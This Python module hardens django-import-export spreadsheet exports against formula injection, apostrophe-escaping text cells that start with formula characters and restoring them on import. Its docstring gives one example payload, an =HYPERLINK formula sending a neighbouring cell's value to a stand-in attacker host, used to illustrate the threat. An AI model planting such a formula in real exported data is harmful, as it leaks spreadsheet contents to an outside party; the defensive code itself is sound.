"""Exported spreadsheet cells that stay text.

Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (or a tab or
a carriage return) as a formula: a freelancer named =HYPERLINK("https://evil.example/?"&A2)
would become a link leaking the next cell. Exported text that starts so gets a leading
apostrophe, which keeps it text; importing takes the apostrophe off again, so a sheet
exported and imported back changes nothing.

Only text columns are marked: "-50.00" in an amount column is a number, and an empty
cell stays empty (django-import-export's own escaping turned both into text).
"""

from import_export import resources, widgets

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
NOT_TEXT = (
    widgets.NumberWidget,
    widgets.BooleanWidget,
    widgets.DateWidget,
    widgets.DateTimeWidget,
    widgets.TimeWidget,
    widgets.DurationWidget,
)


def keep_as_text(value):
    """`value` as a cell no spreadsheet runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def read_as_typed(value):
    """The text keep_as_text() was given, from the cell it made."""
    if isinstance(value, str) and value.startswith(TEXT_MARK) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def is_text(field):
    return not isinstance(field.widget, NOT_TEXT)


class TextSafeResource(resources.ModelResource):
    """A resource whose text columns export as inert text and import back as typed."""

    def export_field(self, field, instance, **kwargs):
        value = super().export_field(field, instance, **kwargs)
        return keep_as_text(value) if is_text(field) else value

    def before_import_row(self, row, **kwargs):
        super().before_import_row(row, **kwargs)
        for field in self.get_import_fields():
            if is_text(field) and field.column_name in row:
                row[field.column_name] = read_as_typed(row[field.column_name])
